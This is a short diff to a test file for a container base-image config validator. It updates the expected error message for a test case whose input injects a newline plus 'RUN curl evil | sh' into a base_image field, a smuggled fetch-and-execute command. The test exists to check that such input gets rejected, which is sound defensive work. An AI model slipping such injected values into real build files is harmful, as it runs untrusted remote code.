@@ -238,7 +238,7 @@ CASES = [
     Case("base-image-with-newline", sub(
         "    base_image: localhost/imagebuild/debian:bookworm-minbase-py3",
         '    base_image: "debian:bookworm\\nRUN curl evil | sh"'),
-         "malformed tag", line_of='base_image: "debian'),
+         "holds a line feed (U+000A)", line_of='base_image: "debian'),
     Case("base-image-uppercase", sub(
         "    base_image: localhost/imagebuild/debian:bookworm-minbase-py3",
         "    base_image: localhost/ImageBuild/debian:bookworm"),
